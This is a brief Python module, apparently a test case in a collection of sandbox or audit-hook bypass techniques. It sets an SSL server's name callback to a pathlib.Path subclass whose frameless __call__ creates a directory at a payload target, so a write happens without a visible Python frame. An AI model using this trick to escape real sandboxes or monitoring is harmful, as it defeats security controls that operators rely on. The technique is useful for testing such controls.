"""An object without a frame as the callback for the server's name."""
CATEGORY = "callable"
REACH = "write"
NEEDS = ("ssl",)

import operator
import pathlib

from . import payload


class Path(type(pathlib.Path())):
    """However it is called, it makes its directory."""
    __call__ = property(operator.methodcaller("mkdir"))


def attack(client, server):
    server.sni_callback = Path(payload.TARGET)
